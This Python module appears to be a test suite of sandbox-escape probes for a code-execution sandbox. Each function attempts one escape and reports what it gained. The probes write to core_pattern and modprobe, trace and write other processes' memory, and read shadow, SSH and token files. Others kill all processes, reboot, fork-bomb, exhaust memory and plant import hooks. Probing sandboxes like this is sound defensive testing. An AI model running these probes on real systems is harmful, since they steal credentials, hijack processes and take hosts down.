"""Ways out of a sandbox, each a few lines: a function that says what it gained, or nothing where it was kept from it."""

import contextlib
import ctypes
import errno
import fcntl
import mmap
import os
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
ATTACKS = {}
KINDS = {}
X86 = os.uname().machine == "x86_64"
LEFT = []
"""Files that the attack wrote where a task may write to what is its own: whether the host has them, the test looks."""


def attack(function=None, *, ends=None):
    """Register an attack; `ends` says what may end the task (a failure kind) where it is not merely refused."""

    def register(function):
        ATTACKS[function.__name__] = function
        KINDS[function.__name__] = ends
        return function

    return register if function is None else register(function)


def run(payload, reporter):
    """The task: what the attack gained, in words, or None."""
    if payload["attack"] in HELPERS:
        return HELPERS[payload["attack"]](payload) or {}
    try:
        gained = ATTACKS[payload["attack"]](payload)
    except (OSError, subprocess.SubprocessError, AttributeError, ValueError) as error:
        return {"gained": None, "error": f"{type(error).__name__}: {error}", "left": LEFT}
    return {"gained": None if not gained else str(gained)[:300], "error": None, "left": LEFT}


def syscall(number, *arguments):
    """A raw system call; OSError where it fails."""
    values = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *values)
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def write(path, text="x"):
    with open(path, "w") as file:
        file.write(text)
    return f"wrote {path}"


def leave(path, text="x"):
    """Write a file at a path that may be the host's or the task's own, such as one below a temporary folder."""
    with contextlib.suppress(OSError):
        write(path, text)
        LEFT.append(str(Path(path).absolute()))


def read(path, size=100):
    with open(path, "rb") as file:
        data = file.read(size)
    return data and f"read {path}: {data[:40]!r}"


def others():
    """Processes that can be seen beside this one and the first of its namespace."""
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, os.getpid())]


def first(*attempts):
    """What the first attempt gained that was not refused."""
    for attempt in attempts:
        with contextlib.suppress(OSError):
            gained = attempt()
            if gained:
                return gained
    return None


# --- files of the kernel


@attack
def core_pattern(payload):
    return write("/proc/sys/kernel/core_pattern", "|/tmp/evil")


@attack
def modprobe_path(payload):
    return write("/proc/sys/kernel/modprobe", "/tmp/evil")


@attack
def sysrq(payload):
    return first(lambda: write("/proc/sysrq-trigger", "h"), lambda: write("/proc/sys/kernel/sysrq", "1"))


@attack
def drop_caches(payload):
    return write("/proc/sys/vm/drop_caches", "1")


@attack
def every_sysctl(payload):
    for folder, _, files in os.walk("/proc/sys"):
        for name in files:
            with contextlib.suppress(OSError):
                os.close(os.open(f"{folder}/{name}", os.O_WRONLY))
                return f"opened {folder}/{name} for writing"


@attack
def every_file_of_the_machine_in_proc(payload):
    for entry in os.scandir("/proc"):
        if entry.name.isdigit() or entry.is_symlink():
            continue
        for folder, _, files in os.walk(entry.path) if entry.is_dir() else [(entry.path, (), ("",))]:
            for name in files:
                with contextlib.suppress(OSError):
                    place = f"{folder}/{name}".rstrip("/")
                    descriptor = os.open(place, os.O_WRONLY | os.O_NONBLOCK)
                    harmless = os.fstat(descriptor).st_rdev == os.makedev(1, 3)
                    os.close(descriptor)
                    if not harmless:
                        return f"opened {place} for writing"


@attack
def every_file_in_sys(payload):
    for folder, _, files in os.walk("/sys"):
        for name in files:
            with contextlib.suppress(OSError):
                os.close(os.open(f"{folder}/{name}", os.O_WRONLY))
                return f"opened {folder}/{name} for writing"


@attack
def cgroups(payload):
    return first(lambda: os.listdir("/sys/fs/cgroup"), lambda: write("/sys/fs/cgroup/cgroup.procs", "0"))


@attack
def uevent_helper(payload):
    return write("/sys/kernel/uevent_helper", "/tmp/evil")


@attack
def kernel_memory(payload):
    return first(lambda: read("/proc/kcore"), lambda: read("/dev/mem"), lambda: read("/proc/kpageflags", 8))


@attack
def kernel_log(payload):
    def through_syslog():
        return syscall(103 if X86 else 116, 3, ctypes.create_string_buffer(4096), 4096)

    return first(lambda: os.open("/dev/kmsg", os.O_RDWR), lambda: read("/proc/kmsg"), through_syslog)


@attack
def kernel_keys(payload):
    return first(lambda: read("/proc/keys"), lambda: read("/proc/timer_list"), lambda: read("/proc/vmallocinfo"))


@attack
def devices(payload):
    """Whatever else /dev has."""
    allowed = {"null", "zero", "full", "random", "urandom", "fd", "stdin", "stdout", "stderr", "shm"}
    return [
        name for name in os.listdir("/dev") if name not in allowed and not name.startswith(("nvidia", "kfd", "dri"))
    ]


@attack
def dangerous_devices(payload):
    names = (
        "kvm fuse mem kmem vda sda loop-control net/tun tty ptmx vsock vhost-net vhost-vsock uinput rtc0 console hpet"
    )
    return first(
        *(lambda name=name: f"opened {os.open(f'/dev/{name}', os.O_RDWR | os.O_NOCTTY)}" for name in names.split())
    )


@attack
def change_devices(payload):
    """Who owns them outside may own them here."""
    for path in (f"/dev/{name}" for name in ("null", "zero", "full", "random", "urandom")):
        mode = stat.S_IMODE(os.stat(path).st_mode)
        for change in (os.utime, lambda path, mode=mode: os.chmod(path, mode)):
            with contextlib.suppress(OSError):
                change(path)
                return f"changed {path}"


@attack
def own_device_file(payload):
    for kind, major, minor in ((stat.S_IFCHR, 1, 1), (stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 10, 232)):
        with contextlib.suppress(OSError):
            os.mknod(f"device-{major}-{minor}", kind | 0o666, os.makedev(major, minor))
            return f"made and opened {os.open(f'device-{major}-{minor}', os.O_RDWR)}"


@attack
def spare_itself_from_the_kernel(payload):
    return write("/proc/self/oom_score_adj", "-1000")


# --- the host


@attack
def see_other_processes(payload):
    return others()


@attack
def guess_processes(payload):
    """By number, without looking: any but its own and the first of its namespace."""
    found = []
    for pid in range(1, 40_000):
        with contextlib.suppress(ProcessLookupError):
            with contextlib.suppress(PermissionError):
                os.kill(pid, 0)
            found.append(pid)
    return set(found) - {1, os.getpid()}


@attack
def trace_others(payload):
    ptrace = 101 if X86 else 117
    return first(*(lambda pid=pid: f"traced {pid} {syscall(ptrace, 16, pid, 0, 0)}" for pid in (1, *others())))


@attack
def write_memory_of_others(payload):
    data = ctypes.create_string_buffer(b"evil")
    local = struct.pack("NN", ctypes.addressof(data), 4)
    number = 311 if X86 else 271
    return first(*(lambda pid=pid: f"wrote {syscall(number, pid, local, 1, local, 1, 0)}" for pid in (1, *others())))


@attack
def memory_files(payload):
    return first(
        *(
            lambda pid=pid: os.open(f"/proc/{pid}/mem", os.O_RDWR) and f"opened memory of {pid}"
            for pid in (1, *others())
        )
    )


@attack
def descriptors_of_others(payload):
    def take(path):
        os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))
        return f"opened {path}"

    return first(*(lambda path=f"/proc/{pid}/fd/{fd}": take(path) for pid in (1, *others()) for fd in range(10)))


@attack
def take_a_descriptor(payload):
    def take(pid):
        return f"took {syscall(438, os.pidfd_open(pid), 0, 0)}"

    return first(*(lambda pid=pid: take(pid) for pid in (1, *others())))


@attack
def folders_of_others(payload):
    return first(
        *(
            lambda pid=pid, name=name: os.listdir(f"/proc/{pid}/{name}/")
            for pid in (1, *others())
            for name in ("root", "cwd")
        )
    )


@attack
def environment_of_others(payload):
    return first(*(lambda pid=pid: read(f"/proc/{pid}/environ") for pid in (1, *others())))


@attack
def enter_namespaces_of_others(payload):
    kinds = ("mnt", "pid", "net", "ipc", "user")

    def enter(pid, kind):
        descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        return f"entered {kind} of {pid} {syscall(308 if X86 else 268, descriptor, 0)}"

    return first(*(lambda pid=pid, kind=kind: enter(pid, kind) for pid in (1, *others()) for kind in kinds))


@attack
def own_descriptors(payload):
    """What a task has open beside its output and its report."""
    kept = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            if not target.startswith(("pipe:", "/dev/null", "/proc/")):
                kept.append(target)
    return kept or (None if len(os.listdir("/proc/self/fd")) <= 5 else "more than 5")


@attack
def slow_the_host(payload):
    """Niceness, cores, input and output, limits: of whatever has a number here."""
    for pid in (1, os.getppid(), *others()):
        if pid and pid != os.getpid():
            with contextlib.suppress(OSError):
                os.setpriority(os.PRIO_PROCESS, pid, 19)
            with contextlib.suppress(OSError):
                os.sched_setaffinity(pid, {0})
            with contextlib.suppress(OSError):
                resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3))
    for which, who in ((os.PRIO_USER, 0), (os.PRIO_USER, os.getuid()), (os.PRIO_PGRP, 0), (os.PRIO_PGRP, 1)):
        with contextlib.suppress(OSError):
            os.setpriority(which, who, 19)
    with contextlib.suppress(OSError):
        syscall(251 if X86 else 30, 3, os.getuid(), 3 << 13)


@attack
def faster_than_others(payload):
    os.setpriority(os.PRIO_PROCESS, 0, -5)
    return "raised its own priority"


@attack
def real_time(payload):
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    return "runs in real time"


@attack
def kill_everything(payload):
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
        for pid in (1, os.getppid(), -1, *others()):
            if pid not in (0, os.getpid()):
                with contextlib.suppress(OSError):
                    os.kill(pid, number)


@attack
def type_into_a_terminal(payload):
    def push(descriptor):
        return f"typed {fcntl.ioctl(descriptor, 0x5412, b'x')}"

    return first(*(lambda d=d: push(d) for d in range(4)), lambda: push(os.open("/dev/tty", os.O_RDWR)))


@attack
def hide_from_its_host(payload):
    LIBC.prctl(4, 0, 0, 0, 0)
    return None if LIBC.prctl(3, 0, 0, 0, 0) == 1 else "it cannot be looked at any more"


@attack
def claim_an_environment(payload):
    """Others read /proc/<pid>/environ: as much as a process says there is."""
    empty = ctypes.create_string_buffer(104)
    LIBC.prctl(35, 14, empty, ctypes.c_ulong(104), 0)
    return ctypes.get_errno() != errno.EPERM and "the kernel looked at what it says"


@attack
def files_of_one_thread(payload):
    """A process shows the open files of its first thread."""
    stack = ctypes.create_string_buffer(1 << 16)
    top = (ctypes.addressof(stack) + (1 << 16) - 64) & ~15
    stay = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(lambda _: signal.pause() or 0)
    flags = 0x100 | 0x200 | 0x800 | 0x10000  # memory, folders and signals are those of the process, files are not
    made = LIBC.clone(stay, ctypes.c_void_p(top), flags, None)
    return made != -1 and "files of its own"


# --- privileges, mounts, namespaces


@attack
def privileges(payload):
    status = dict(line.split(":\t") for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    held = {name: status[name] for name in ("CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb") if int(status[name], 16)}
    return held or (None if (status["NoNewPrivs"], status["Seccomp"]) == ("1", "2") else "privileges can be gained")


@attack
def become_another_user(payload):
    return first(
        lambda: os.setuid(0) or "root", lambda: os.setgid(0) or "root's group", lambda: os.setgroups([0]) or "groups"
    )


@attack
def programs_with_rights(payload):
    for program in ("su", "sudo", "mount", "newuidmap", "passwd", "bwrap"):
        for folder in ("/bin", "/usr/bin", "/sbin", "/usr/sbin"):
            path = Path(folder, program)
            if path.exists() and path.stat().st_mode & stat.S_ISUID:
                done = subprocess.run([path, "-c", "id -u"], capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
                if done.stdout.strip() == b"0":
                    return f"{path} gave root"


@attack
def new_namespaces(payload):
    kinds = (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x08000000, 0x04000000)
    return first(*(lambda kind=kind: f"unshared {kind:x} {syscall(272 if X86 else 97, kind)}" for kind in kinds))


@attack
def new_namespaces_by_clone(payload):
    pid = syscall(56 if X86 else 220, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return "cloned into a user namespace"


@attack
def new_namespaces_by_clone3(payload):
    arguments = ctypes.create_string_buffer(struct.pack("11Q", 0x10000000, 0, 0, 0, signal.SIGCHLD, *([0] * 6)))
    pid = syscall(435, arguments, 88)
    if pid == 0:
        os._exit(0)
    return "cloned into a user namespace"


@attack
def unshare_program(payload):
    done = subprocess.run(["unshare", "-r", "id", "-u"], capture_output=True, timeout=5)
    return done.stdout.strip() == b"0" and "root in a namespace of its own"


@attack
def mounts(payload):
    def mount(source, target, kind, flags):
        return f"mounted {target} {check(LIBC.mount(source, target, kind, ctypes.c_ulong(flags), None))}"

    return first(
        lambda: mount(b"tmpfs", b"/tmp", b"tmpfs", 0),
        lambda: mount(b"proc", b"/proc", b"proc", 0),
        lambda: mount(b"/tmp", b"/usr", None, 0x1000),
        lambda: mount(None, b"/", None, 0x20 | 0x1000),
        lambda: mount(None, b"/proc/sys", None, 0x20),
        lambda: mount(b"/proc/sys", b"/tmp", None, 0x2000),
    )


def check(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), "refused")
    return "done"


@attack
def unmounts(payload):
    places = (b"/proc/sys", b"/tmp", b"/dev/shm", b"/proc", b"/usr", b"/")
    return first(*(lambda place=place: f"unmounted {place} {check(LIBC.umount2(place, 2))}" for place in places))


@attack
def new_mount_calls(payload):
    return first(
        lambda: f"fsopen {syscall(430, b'tmpfs', 0)}",
        lambda: f"open_tree {syscall(428, -100, b'/', 1)}",
        lambda: f"fspick {syscall(433, -100, b'/', 0)}",
        lambda: f"mount_setattr {syscall(442, -100, b'/', 0, struct.pack('4Q', 0, 1, 0, 0), 32)}",
    )


@attack
def chroot(payload):
    os.mkdir("jail")
    os.chroot("jail")
    os.chdir("../../../../..")
    return os.listdir(".")


@attack
def pivot(payload):
    return f"pivoted {syscall(155 if X86 else 41, b'/tmp', b'/tmp')}"


@attack
def file_handles(payload):
    """As `shocker` did: the root of the disk by its number."""
    handle = ctypes.create_string_buffer(struct.pack("II", 8, 1) + struct.pack("II", 2, 0))
    descriptor = os.open("/usr", os.O_RDONLY)
    return f"opened {syscall(304 if X86 else 265, descriptor, handle, 0)}"


@attack
def parents_of_the_root(payload):
    here = os.stat("/")
    os.chdir("/")
    os.chdir("/proc/1/cwd") if os.access("/proc/1/cwd", os.X_OK) else os.chdir("..")
    return (os.stat(".").st_dev, os.stat(".").st_ino) != (here.st_dev, here.st_ino) and os.listdir(".")


# --- doors into the kernel


@attack
def kernel_doors(payload):
    zeros = ctypes.create_string_buffer(256)
    numbers = {
        "bpf": (321, 280), "perf_event_open": (298, 241), "userfaultfd": (323, 282), "io_uring_setup": (425, 425),
        "kexec_file_load": (320, 294), "finit_module": (313, 273), "init_module": (175, 105), "acct": (163, 89),
        "swapon": (167, 224), "quotactl": (179, 60), "kcmp": (312, 272), "fanotify_init": (300, 262),
        "name_to_handle_at": (303, 264), "lookup_dcookie": (212, 18), "settimeofday": (164, 170),
    }  # fmt: skip
    for name, pair in numbers.items():
        try:
            syscall(pair[0 if X86 else 1], zeros, 0, 0, 0, 0)
        except OSError as error:
            if error.errno not in (errno.EPERM, errno.ENOSYS):
                return f"{name} was looked at by the kernel: {error}"
        else:
            return f"{name} worked"


@attack
def keyrings(payload):
    return first(
        lambda: f"added {syscall(248 if X86 else 217, b'user', b'evil', b'x', 1, -3)}",
        lambda: f"keyctl {syscall(250 if X86 else 219, 0, -3, 1)}",
        lambda: f"requested {syscall(249 if X86 else 218, b'user', b'evil', None, -3)}",
    )


@attack
def rename_the_machine(payload):
    socket.sethostname("evil")
    return "renamed"


@attack
def set_the_clock(payload):
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    return "set"


@attack
def reboot(payload):
    return f"{syscall(169 if X86 else 142, 0xFEE1DEAD, 672274793, 0x89ABCDEF, 0)}"


@attack
def old_system_calls(payload):
    """32-bit numbers on a 64-bit kernel: 20 is getpid there."""
    if X86:
        with contextlib.suppress(OSError):
            return f"x32 {syscall(0x40000000 + 39)}"
        private = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
        page = mmap.mmap(-1, 4096, private, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(bytes.fromhex("b814000000 cd80 c3"))  # mov eax, 20; int 0x80; ret
        found = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        return found > 0 and f"32-bit {found}"


# --- network


@attack
def the_clients_port(payload):
    socket.create_connection(("127.0.0.1", payload["port"]), 2).close()
    return "connected"


@attack
def the_internet(payload):
    for address in (("1.1.1.1", 443), ("8.8.8.8", 53), (payload["address"], payload["port"])):
        with contextlib.suppress(OSError):
            socket.create_connection(address, 1).close()
            return f"connected to {address}"


@attack
def datagrams(payload):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return f"sent {one.sendto(b'x', ('8.8.8.8', 53))}"


@attack
def other_sockets(payload):
    families = {"packet": (17, 3), "vsock": (40, 1), "alg": (38, 5), "raw": (2, 3), "can": (29, 3), "xdp": (44, 3)}
    return first(
        *(lambda n=n, f=f, k=k: socket.socket(f, k) and f"made a socket {n}" for n, (f, k) in families.items())
    )


@attack
def the_virtual_machines_host(payload):
    with socket.socket(40, socket.SOCK_STREAM) as one:
        one.settimeout(1)
        one.connect((2, 1024))
        return "connected to the host of this virtual machine"


@attack
def interfaces(payload):
    return [
        name
        for _, name in socket.if_nameindex()
        if name != "lo" and not name.startswith(("sit", "tunl", "ip6tnl", "gre", "erspan", "ip_vti", "ip6"))
    ]


@attack
def abstract_socket(payload):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(f"\0{payload['abstract']}")
        return "connected to an abstract socket outside"


@attack
def socket_in_a_folder(payload):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(payload["socket"])
        return "connected to a socket outside"


@attack
def services(payload):
    return [
        str(path)
        for folder in ("/run", "/var/run", "/tmp", "/var")
        for path in Path(folder).rglob("*")
        if path.is_socket()
    ]


@attack
def pipe_outside(payload):
    os.write(os.open(payload["fifo"], os.O_WRONLY | os.O_NONBLOCK), b"x")
    return "wrote into a FIFO outside"


# --- reading and writing what is not its own


@attack
def secrets(payload):
    home = payload["home"]
    places = (f"{home}/.ssh", f"{home}/.config", f"{home}/.netrc", f"{home}/.cache/huggingface/token", "/etc/shadow")
    return [
        place for place in (*places, home, "/root", "/home", "/var", "/mnt", "/srv", "/opt") if _has(place, payload)
    ]


def _has(place, payload):
    """Whether something is there but what the sandbox must show, which is below the interpreter's folder."""
    path = Path(place)
    if path.is_file():
        return True
    if not path.is_dir():
        return False
    return [
        child for child in path.iterdir() if not any(Path(shown).is_relative_to(child) for shown in payload["shown"])
    ]


@attack
def tokens(payload):
    return [name for name in os.environ if "TOKEN" in name or "SECRET" in name or name.startswith("AWS")]


@attack
def clients_secret(payload):
    return first(lambda: read(payload["secret"]), lambda: f"opened {os.open(payload['secret'], os.O_WRONLY)}")


@attack
def secret_by_a_link(payload):
    os.symlink(payload["secret"], "link")
    return first(lambda: read("link"), lambda: os.link(payload["secret"], "hard") or "linked")


@attack
def rest_of_the_checkout(payload):
    root = Path(payload["checkout"])
    return first(
        lambda: read(root / ".git"), lambda: read(root / "pyproject.toml"), lambda: os.listdir(root / "warehouse")
    )


@attack
def other_parts_of_the_session(payload):
    session = Path.cwd().parents[2]
    seen = {str(path.relative_to(session)) for path in session.rglob("*")}
    own = str(Path.cwd().parent.relative_to(session))
    empty = {"left", "work/tmp"}  # for what a host's set-up leaves, which is nothing here
    return [name for name in seen - empty if not (name.startswith(own) or own.startswith(name))]


@attack
def leases(payload):
    """Whoever opens these files waits for them to be given back."""
    paths = [*Path(payload["checkout"], "ops").rglob("*.py"), *Path("/usr/bin").glob("*")]
    for path in paths[:500]:
        with contextlib.suppress(OSError):
            fcntl.fcntl(os.open(path, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_WRLCK)
            return f"has a lease on {path}"


@attack
def locks_of_parts(payload):
    """Each is memory of the kernel, and a file outside stays locked."""
    with open("own", "wb") as own, open("/etc/passwd", "rb") as outside:
        return first(
            lambda: fcntl.lockf(own, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 1) or "locked a byte",
            lambda: fcntl.lockf(outside, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, 1) or "locked a byte of another's file",
            lambda: f"locked {fcntl.fcntl(own, 37, struct.pack('hhqqi', fcntl.F_WRLCK, 0, 1, 1, 0))}",
        )


@attack
def attributes_of_files(payload):
    """Each is memory of the kernel; a list of rights is."""
    rights = struct.pack("<I" + 4 * "HHI", 2, 1, 7, 2**32 - 1, 2, 7, 1000, 4, 7, 2**32 - 1, 32, 7, 2**32 - 1)
    Path("own").touch()
    return first(
        lambda: os.setxattr("own", "user.note", b"x") or "an attribute",
        lambda: os.setxattr("own", "system.posix_acl_access", rights) or "a list of rights",
        lambda: os.setxattr(os.open("own", os.O_RDWR), "user.note", b"x") or "an attribute of an open file",
        lambda: syscall(469, -100, ctypes.c_char_p(b"own"), ctypes.c_char_p(bytes(24)), 24, 0) or "set flags",
    )


@attack
def watch_others(payload):
    return first(
        lambda: f"inotify {syscall(294 if X86 else 26, 0)}",
        lambda: f"inotify {syscall(253, 0)}" if X86 else None,
        lambda: f"notified {fcntl.fcntl(os.open('/usr/bin', os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS)}",
    )


@attack
def asynchronous_io(payload):
    """Its queues are counted for the whole machine."""
    return f"has a queue {syscall(206 if X86 else 0, 65536, ctypes.byref(ctypes.c_ulong(0)))}"


@attack
def write_everywhere(payload):
    """Every folder but those of processes, and where the checkout lies however deep that is."""
    places = {part for path in payload["shown"] for part in (Path(path), *Path(path).parents)}
    for folder, names, _ in os.walk("/"):
        if folder == "/":
            names.remove("proc")
        if folder.count("/") > 4:
            names.clear()
        places.add(Path(folder))
    for place in places:
        leave(place / f"{payload['mark']}.txt")


@attack
def change_programs(payload):
    for path in (
        sys.executable,
        os.__file__,
        *(getattr(sys.modules[name], "__file__", None) for name in list(sys.modules)),
    ):
        if path:
            with contextlib.suppress(OSError):
                os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
                return f"opened {path} for writing"
            with contextlib.suppress(OSError):
                os.chmod(path, 0o777)
                return f"changed the mode of {path}"


@attack
def compiled_modules(payload):
    checkout = Path(payload["checkout"])
    for path in {Path(entry) for entry in sys.path if entry} | {checkout / "ops", checkout / "backends"}:
        with contextlib.suppress(OSError):
            Path(path, "__pycache__").mkdir(exist_ok=True)
        leave(path / "__pycache__" / f"{payload['mark']}.pyc")


# --- what it leaves for the next


@attack
def leave_files(payload):
    for place in (
        os.environ[name] for name in ("TMPDIR", "TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "XDG_CACHE_HOME", "HOME")
    ):
        Path(place).mkdir(parents=True, exist_ok=True)
        leave(f"{place}/left-{payload['mark']}.txt")
    for place in ("/tmp", "/dev/shm", ".", *payload["plant"]):
        leave(f"{place}/left-{payload['mark']}.txt")
    Path("/tmp/torchinductor_sandbox").mkdir()
    leave(f"/tmp/torchinductor_sandbox/{payload['mark']}.pch")


@attack
def leave_pipes(payload):
    for place in (".", "/tmp", "/dev/shm", os.environ["TMPDIR"]):
        os.mkfifo(f"{place}/left.fifo")


@attack
def leave_shared_memory(payload):
    from multiprocessing import shared_memory

    block = shared_memory.SharedMemory(name="left", create=True, size=1 << 20)
    block.buf[0] = 1


@attack
def leave_system_v(payload):
    identifier = syscall(29 if X86 else 194, 0x1EF7, 1 << 20, 0o1666)
    return f"made segment {identifier}"


@attack
def leave_queues(payload):
    return first(
        lambda: f"made a queue {syscall(68 if X86 else 186, 0x1EF7, 0o1666)}",
        lambda: f"made semaphores {syscall(64 if X86 else 190, 0x1EF7, 1, 0o1666)}",
        lambda: f"made a POSIX queue {syscall(240 if X86 else 180, b'left', 0o102, 0o600, None)}",
    )


@attack
def leave_connections(payload):
    """They outlive both ends."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        for _ in range(20):
            client = socket.create_connection(server.getsockname())
            server.accept()[0].close()
            client.close()


@attack
def leave_deep_folders(payload):
    os.chdir(payload.get("folder", "."))
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.mkdir("closed")
    os.chmod("closed", 0)


@attack
def plant_modules(payload):
    """Where any later import might look."""
    places = {"", ".", "/tmp", "/dev/shm", os.environ["HOME"], os.environ["TMPDIR"], *sys.path, *payload["plant"]}
    places |= {str(parent) for place in list(places) if place for parent in Path(place).parents}
    for place in places:
        for name in ("openvino", "planted", "sitecustomize", "usercustomize"):
            leave(f"{place or '.'}/{name}.py", "PLANTED = True\n")


@attack
def leave_a_daemon(payload):
    """It left session, parent and environment, holds nothing open, and looks for a process to trace."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            program = (
                "import ctypes, time\nlibc = ctypes.CDLL(None)\n"
                "while True: libc.ptrace(0x4206, 1, None, ctypes.c_void_p(0x100000)); time.sleep(1)"
            )
            os.closerange(0, 100)
            os.execve(sys.executable, [payload["mark"], "-S", "-E", "-c", program], {})
        os._exit(0)
    os.wait()
    time.sleep(0.05)


# --- taking more than its share


@attack(ends="error")
def fork_bomb(payload):
    end = time.monotonic() + 8
    while time.monotonic() < end:
        if os.fork() == 0:
            os.setsid()
    os._exit(0)


@attack(ends="error")
def threads(payload):
    threading.stack_size(64 * 1024)
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
    time.sleep(5)
    return "5000 threads"


@attack(ends="out_of_memory")
def nameless_file(payload):
    descriptor = os.memfd_create("evil")
    for _ in range(2 * payload["memory"] >> 24):
        os.write(descriptor, bytes(1 << 24))
    time.sleep(1)
    return "memory in a file without a name"


@attack(ends="out_of_memory")
def shared_memory_not_resident(payload):
    held = []
    for _ in range(2 * payload["memory"] >> 24):
        block = mmap.mmap(-1, 1 << 24)
        block.write(b"x" * (1 << 24))
        block.madvise(mmap.MADV_DONTNEED)
        held.append(block)
    time.sleep(1)
    return "memory that is not resident"


@attack(ends="out_of_memory")
def files_in_memory(payload):
    for number in range(2 * payload["memory"] >> 24):
        write(f"{('/tmp', '/dev/shm', '.')[number % 3]}/large-{number}", "x" * (1 << 24))
    time.sleep(1)
    return "files of more than the memory limit"


@attack(ends="out_of_memory")
def names_in_memory(payload):
    Path("/tmp/name").touch()
    for number in range(2 * payload["memory"] >> 10):
        os.link("/tmp/name", f"/tmp/{number}") if number % 2 else os.symlink("x" * 100, f"/tmp/{number}")
    time.sleep(1)
    return "names of more than the memory limit"


@attack
def shared_memory_behind_one_page(payload):
    """A page that stays mapped keeps all of what was written, which is resident in no process."""
    size = 2 * payload["memory"]
    LIBC.mmap.restype = ctypes.c_long
    start = LIBC.mmap(None, ctypes.c_size_t(size), 3, 0x21, -1, ctypes.c_long(0))
    if start in (-1, None):
        raise OSError("refused")
    ctypes.memset(ctypes.c_void_p(start), 1, size)
    LIBC.munmap(ctypes.c_void_p(start + 4096), ctypes.c_size_t(size - 4096))
    time.sleep(1.5)
    return "memory behind one page"


@attack
def shared_memory_of_a_device(payload):
    with open("/dev/zero", "r+b") as zero:
        return len(mmap.mmap(zero.fileno(), 1 << 20)) and "shared memory that no file system shows"


@attack
def large_pages_behind_a_pipe(payload):
    """A pipe that refers to a few bytes of a page of 2 MiB keeps all of it."""
    _, end = os.pipe()
    text = ctypes.create_string_buffer(b"x" * 4096)
    span = struct.pack("PN", ctypes.addressof(text), 4096)
    return syscall(278 if X86 else 75, end, ctypes.c_char_p(span), 1, 0) and "pages in a pipe"


@attack
def parts_of_large_pages(payload):
    """As `large_pages_behind_a_pipe`, of a page of a file."""
    write("/tmp/page", "x" * 4096)
    page = os.open("/tmp/page", os.O_RDONLY)
    out, end = os.pipe()
    os.write(end, b"x")
    one, _other = socket.socketpair()
    return first(
        lambda: f"spliced {os.splice(page, end, 100, offset_src=0)}",
        lambda: f"sent {os.sendfile(one.fileno(), page, 0, 100)}",
        lambda: f"sent {os.sendfile(end, page, 0, 100)}",
        lambda: f"copied {syscall(276 if X86 else 77, out, os.pipe()[1], 1, 0)}",
    )


@attack
def sent_without_a_copy(payload):
    """As `large_pages_behind_a_pipe`, by a socket that refers to the sender's pages."""
    kinds = ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET6, 1))
    for family, kind in kinds:
        with contextlib.suppress(OSError), socket.socket(family, kind) as one:
            one.setsockopt(socket.SOL_SOCKET, 60, 1)
            return "a socket that copies nothing"


@attack
def connections_that_wait(payload):
    """A socket that listens keeps what thousands have sent to it, which need not be open any more."""

    def listen(family, address):
        with socket.socket(family) as one:
            one.bind(address)
            one.listen()
            with socket.socket(family) as other:
                other.connect(one.getsockname())
                other.send(bytes(100_000))
            return f"a connection that waits at {address}"

    return first(
        lambda: listen(socket.AF_UNIX, "/tmp/socket"),
        lambda: listen(socket.AF_UNIX, "\0own"),
        lambda: listen(socket.AF_INET, ("127.0.0.1", 0)),
        lambda: listen(socket.AF_INET6, ("::1", 0)),
    )


@attack
def datagrams_that_wait(payload):
    """A socket of datagrams keeps what many have sent to it."""

    def receive(kind, pair=False):
        receiver = socket.socketpair(socket.AF_UNIX, kind)[0] if pair else socket.socket(socket.AF_UNIX, kind)
        receiver.bind(f"\0own-{kind}-{pair}")
        return f"a receiver of {kind}"

    return first(
        lambda: receive(socket.SOCK_DGRAM),
        lambda: receive(socket.SOCK_DGRAM | socket.SOCK_CLOEXEC),
        lambda: receive(socket.SOCK_RAW),
        lambda: receive(socket.SOCK_DGRAM, pair=True),
        lambda: receive(socket.SOCK_RAW | socket.SOCK_NONBLOCK, pair=True),
    )


@attack
def pairs_of_other_families(payload):
    """Refused before the kernel looks for the family: one that has no pairs says so otherwise."""
    for family in (socket.AF_INET, socket.AF_INET6, 30, 40):
        try:
            return socket.socketpair(family) and f"a pair of family {family}"
        except OSError as error:
            if error.errno != errno.EAFNOSUPPORT:
                return f"family {family} answers: {error}"


@attack
def sets_of_rules(payload):
    """Each is memory of the kernel, which counts for nobody."""
